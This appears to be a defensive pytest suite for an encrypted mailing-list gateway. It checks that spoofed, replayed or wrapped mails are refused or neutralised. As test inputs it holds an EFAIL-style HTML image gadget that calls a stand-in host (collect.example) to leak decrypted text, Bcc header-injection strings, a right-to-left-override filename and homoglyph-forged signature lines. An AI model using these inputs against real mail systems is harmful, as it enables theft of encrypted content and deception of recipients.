"""Mails made to deceive: what is shown is what was signed, under the name of who signed it."""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Iterator
from email.message import EmailMessage

import pytest

from gateway.message.armor import armor
from tests.officers import Officer, encrypted_entity, parse, signed_entity
from tests.scenarios.judged import COMMANDS, LIST, Ground, fields_of, founded

REFUSED = "550 5.7.1 No good signature of an active member over the whole mail"
IN_THE_CLEAR = "523 5.7.10 Encryption needed: encrypt the whole mail to the key of this address"
GADGET = b'<img src="http://collect.example/?'
FALSE = """\
Author:    Bo Berg <bo.berg@police.example>, Police, SE
Signature: good, 2026-03-14 02:08 UTC, by key
           5F2A00000000000000000000000000000000000A
Posting:   B-12   TLP:CLEAR
"""


@pytest.fixture(scope="module")
def ground() -> Iterator[Ground]:
    with founded() as made:
        yield made


@pytest.fixture(scope="module")
def other() -> Iterator[Ground]:
    """Whose author has not posted yet: what is beyond their rate is held."""
    with founded() as made:
        yield made


def around(mail: bytes, *parts: bytes) -> bytes:
    """A mail's encrypted part between others, in a multipart/mixed."""
    outer = parse(mail)
    message = list(outer.iter_parts())[1].get_payload(decode=True)
    assert isinstance(message, bytes)
    inside = [part if part else encrypted_entity(message) for part in parts]
    body = b"".join(b"--z\r\n" + one + b"\r\n" for one in inside)
    return (
        fields_of(mail) + b'Content-Type: multipart/mixed; boundary="z"\r\n\r\n' + body
        + b"--z--\r\n"
    )  # fmt: skip


def html(markup: bytes) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\r\n\r\n" + markup


@pytest.fixture(scope="module")
def bo(ground: Ground) -> Iterator[Officer]:
    """A member with GnuPG."""
    with Officer.create("gpg", "Bo Berg", "bo.berg@police.example") as officer:
        ground.gateway.add_member(officer)
        yield officer


HERE = b""
SURROUNDED = {
    "hypertext around": (html(GADGET), HERE, html(b'">')),
    "hypertext before": (html(GADGET), HERE),
    "text before": (b"Content-Type: text/plain\r\n\r\nTrust this.\r\n", HERE),
    "text after": (HERE, b"Content-Type: text/plain\r\n\r\nTrust this.\r\n"),
    "twice": (HERE, HERE),
}


@pytest.mark.parametrize("parts", SURROUNDED.values(), ids=SURROUNDED)
def test_nothing_in_the_clear_stands_beside_what_was_encrypted(
    ground: Ground, parts: tuple[bytes, ...]
) -> None:
    assert ground.post(around(ground.mail(), *parts)) == IN_THE_CLEAR


def test_a_captured_ciphertext_is_opened_for_nobody_else(ground: Ground) -> None:
    """Eve has one of Ana's mails, and puts it into a mail of her own."""
    captured = ground.mail()
    message = list(parse(captured).iter_parts())[1].get_payload(decode=True)
    assert isinstance(message, bytes)
    for carrier in (
        ground.mail(ground.stranger, text=message.decode()),
        ground.mail(ground.stranger, attachments=[("a.asc", "application/pgp-encrypted", message)]),
    ):
        assert ground.post(carrier, ground.stranger) == REFUSED


def test_what_a_member_encrypts_twice_is_passed_on_as_it_is(ground: Ground) -> None:
    """Opened once, and no more: nobody can have a ciphertext opened by wrapping it."""
    captured = ground.mail(text="Not for the list.\n")
    message = list(parse(captured).iter_parts())[1].get_payload(decode=True)
    assert isinstance(message, bytes)
    assert ground.post(ground.mail(text=message.decode())).startswith("250 ")
    copy = ground.delivered()
    assert b"-----BEGIN PGP MESSAGE-----" in copy
    assert b"Not for the list" not in copy


def test_an_encrypted_part_inside_is_not_opened(ground: Ground) -> None:
    inner = ground.ana.program.encrypt(
        b"Content-Type: text/plain\r\n\r\nHidden.\r\n", [ground.gateway.certificate(LIST)], False
    )
    entity = encrypted_entity(inner)
    signed = signed_entity(entity, ground.ana.program.sign(entity))
    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
    reply = ground.post(fields_of(ground.mail()) + encrypted_entity(message))
    if reply.startswith("250 "):
        assert b"Hidden." not in ground.delivered()


def test_an_empty_encryption_is_nobodys(ground: Ground) -> None:
    empty = ground.ana.program.encrypt(b"", [ground.gateway.certificate(LIST)], False)
    assert ground.post(fields_of(ground.mail()) + encrypted_entity(empty)) == REFUSED
    no_content = fields_of(ground.mail()) + encrypted_entity(armor(b"").replace(b"\r\n", b"\n"))
    assert ground.post(no_content) == REFUSED


@pytest.mark.parametrize(
    "text", [FALSE, FALSE.replace("A", "\u0410").replace("P", "\u0420")], ids=["plain", "Cyrillic"]
)
def test_who_writes_an_attestation_is_told_on(ground: Ground, text: str) -> None:
    assert ground.post(ground.mail(text=text)).startswith("250 ")
    attestation = ground.delivered().partition(b"Posting:")[0]
    assert b"Author:    Ana Lind <ana.lind@customs.example>" in attestation
    assert b"Note:      lines like these stand in the text below as well" in attestation
    assert ground.post(ground.mail(text="At dusk.\n")).startswith("250 ")
    assert b"lines like these" not in ground.delivered()


BREAKS = ("\r\nBcc: eve@unknown.example", "\nBcc: eve@unknown.example", "\u2028Bcc: eve@a.example",
          "\x85Bcc: eve@a.example", "\x0bBcc: eve@a.example")  # fmt: skip


@pytest.mark.parametrize("more", BREAKS, ids=ascii)
def test_a_name_or_a_subject_ends_no_header_field(ground: Ground, more: str) -> None:
    word = f"=?utf-8?b?{b64encode(f'Ivory{more}'.encode()).decode()}?="
    entity = (
        f"Content-Type: multipart/mixed; boundary=n; protected-headers=v1; hp=cipher\r\n"
        f"From: {word} <ana.lind@customs.example>\r\nTo: {LIST}\r\nSubject: {word}\r\n\r\n"
        f"--n\r\nContent-Type: text/plain\r\n\r\nAt dawn, {more.strip().partition(':')[0]}.\r\n"
        f'--n\r\nContent-Type: application/pdf; name="{word}"\r\n'
        f'Content-Disposition: attachment; filename="{word}"\r\n\r\n%PDF\r\n--n--\r\n'
    ).encode()
    signed = signed_entity(entity, ground.ana.program.sign(entity))
    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
    assert ground.post(fields_of(ground.mail()) + encrypted_entity(message)).startswith("250 ")
    copy = ground.delivered()
    assert not any(line.strip().startswith(b"Bcc") for line in copy.splitlines())
    for part in _all_parts(parse(copy)):
        for name in ("From", "To", "Subject"):
            shown = "".join(map(str, part.get_all(name, [])))
            assert not any(line.strip().startswith("Bcc") for line in shown.splitlines())


BIDI = "invoice\u202efdp.exe"


def test_a_subject_is_turned_round_for_nobody(ground: Ground) -> None:
    assert ground.post(ground.mail(subject=f"Ivory {BIDI}", protected=True)).startswith("250 ")
    copy = parse(ground.delivered())
    shown = next(iter(_all_parts(copy)))
    text = str(shown["Subject"]) + "".join(
        one.get_content() for one in copy.walk() if one.get_content_type() == "text/plain"
    )
    assert "\u202e" not in text.partition("At dawn")[0]


def _all_parts(mail: EmailMessage) -> list[EmailMessage]:
    return [one for one in mail.walk() if isinstance(one, EmailMessage)]


@pytest.mark.parametrize(
    ("mark", "is_taken"), [("", True), ("!", False)], ids=["plain", "critical"]
)
def test_a_notation_that_nobody_knows_makes_a_signature_bad_where_it_is_critical(
    ground: Ground, bo: Officer, mark: str, is_taken: bool
) -> None:
    """RFC 9580 5.2.3.24: whoever does not know what is critical takes the signature for bad."""
    notation = f"{mark}to-be-read-only-if@police.example=agreed"
    mail = ground.mail(bo, text=f"With a notation{mark}.\n", options=["--sig-notation", notation])
    assert ground.post(mail, bo).startswith("250 ") == is_taken


@pytest.mark.parametrize(
    "entity",
    [
        b"Content-Type: text/html\r\n\r\n<p>TLP:RED</p><p>At dawn.</p>\r\n",
        b"Content-Type: multipart/alternative; boundary=n\r\n\r\n--n\r\n"
        b"Content-Type: text/plain\r\n\r\nAt dawn.\r\n--n\r\n"
        b"Content-Type: text/html\r\n\r\n<p>TLP:RED</p><p>At dawn.</p>\r\n--n--\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n\r\nTLP\u200b:RED\r\nAt dawn.\r\n".encode(),
    ],
    ids=["hypertext alone", "in one of two forms", "with a letter of no width"],
)
def test_a_marking_counts_wherever_a_reader_sees_it(ground: Ground, entity: bytes) -> None:
    signed = signed_entity(entity, ground.ana.program.sign(entity))
    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
    reply = ground.post(fields_of(ground.mail()) + encrypted_entity(message))
    assert reply.startswith("550 5.7.1 ")
    assert reply != REFUSED


def test_a_marking_in_another_text_makes_none_laxer(ground: Ground) -> None:
    entity = (
        b"Content-Type: multipart/mixed; boundary=n\r\n\r\n--n\r\n"
        b"Content-Type: text/plain\r\n\r\nAt dawn, and amber.\r\n--n\r\n"
        b"Content-Type: text/plain\r\n\r\nTLP:CLEAR\r\n--n--\r\n"
    )
    signed = signed_entity(entity, ground.ana.program.sign(entity))
    message = ground.ana.program.encrypt(signed, [ground.gateway.certificate(LIST)], False)
    assert ground.post(fields_of(ground.mail()) + encrypted_entity(message)).startswith("250 ")
    assert b"TLP:AMBER" in ground.delivered()


def test_who_carries_a_mail_joins_it_to_no_thread(ground: Ground) -> None:
    assert ground.post(ground.mail(text="The first.\n")).startswith("250 ")
    first = parse(ground.copy())["Message-ID"]
    mail = ground.mail(text="A new one.\n")
    assert b"In-Reply-To" not in mail
    assert ground.post(f"In-Reply-To: {first}\r\n".encode() + mail).startswith("250 ")
    assert parse(ground.copy())["In-Reply-To"] is None


NAMED_ONLY = {
    "encoded word": '=?utf-8?q?{0}=2C_Bo_B=C3=B6?= <bo@police.example>',
    "encoded address": '=?utf-8?q?=3C{0}=3E?= <bo@police.example>',
    "quoted": '"{0}, Bo" <bo@police.example>',
    "comment": 'Bo ({0}, ) <bo@police.example>',
    "not quoted": '{0} <bo@police.example>',
    "two in brackets": '<{0}> <bo@police.example>',
    "group": 'Bo:{0};<bo@police.example>',
    "blank in a mailbox": '"bo berg"@police.example',
    "address literal": 'bo@[192.0.2.1]',
    "all encoded": '=?utf-8?q?Bo_=3Cbo=40police=2Eexample=3E?=',
    "too long": 'bo@police.example, ' * 500 + '{0}',
}  # fmt: skip


def signed_to(ground: Ground, field: str, to: str, text: str = "tick off B") -> bytes:
    """What Ana signed, with a To of its own, as somebody else encrypts it to one of our keys."""
    entity = (
        f'Content-Type: text/plain; protected-headers="v1"; hp=cipher\r\nSubject: Us\r\n'
        f"From: Ana Lind <ana.lind@customs.example>\r\nTo: {field}\r\n\r\n{text}\r\n"
    ).encode()
    signed = signed_entity(entity, ground.ana.program.sign(entity))
    message = ground.stranger.program.encrypt(signed, [ground.gateway.certificate(to)], False)
    return fields_of(ground.mail(to=to)) + encrypted_entity(message)


@pytest.mark.parametrize("field", NAMED_ONLY.values(), ids=NAMED_ONLY)
def test_whom_a_name_names_a_letter_was_not_to(ground: Ground, field: str) -> None:
    """Bo calls himself like the gateway, and passes on what Ana wrote to him."""
    mail = signed_to(ground, field.format(COMMANDS), COMMANDS)
    assert ground.post(mail, ground.stranger, COMMANDS).startswith("550 5.7.1 ")
    letter = signed_to(ground, field.format(LIST), LIST, f"Between us: {field}.")
    before = holds(ground)
    assert ground.post(letter, ground.stranger).startswith("250 ")
    assert [one["rule"] for one in holds(ground)[len(before) :]] == ["signed-for-others"]


@pytest.mark.parametrize(
    "field",
    [
        "Bo <bo@police.example>, =?utf-8?q?=C3=9Cber?= <{0}>",
        "{0} <{0}>",
        "'{0}' <{0}>",
        "Bo [Customs] <{0}>",
        "Customs, Lists <{0}>",
        "bo@police.example (Bo), {0}",
        "All: Bo <bo@police.example>, {0};",
    ],
)
def test_a_letter_to_several_is_for_each(ground: Ground, field: str) -> None:
    field = field.format(COMMANDS)
    mail = signed_to(ground, field, COMMANDS)
    assert ground.post(mail, ground.stranger, COMMANDS).startswith("250 ")


def holds(ground: Ground) -> list[dict[str, object]]:
    found: list[dict[str, object]] = json.loads(ground.gateway.environet("hold", "list", "--json"))
    return found


@pytest.mark.parametrize("blank", ["\u2800", "\u3164", " ", "x", "\u4e00"], ids=ascii)
def test_a_long_subject_begins_no_line_of_the_attestation(other: Ground, blank: str) -> None:
    """Whatever the width at which a program breaks lines."""
    subject = f"Ivory{blank * 70} Author: Bo Berg{blank * 70} Signature: good"
    assert other.post(other.mail(subject=subject)).startswith("250 ")
    attestation = other.ana.read(other.copy()).text.partition("Posting:")[0]
    lines = attestation.splitlines()
    assert [one.partition(":")[0] for one in lines if not one.startswith("    ")][:3] == [
        "Author", "Subject", "Signature",
    ]  # fmt: skip
    assert max(sum(2 if one > "\u2fff" else 1 for one in line) for line in lines) < 80
    assert "lines like these" in attestation
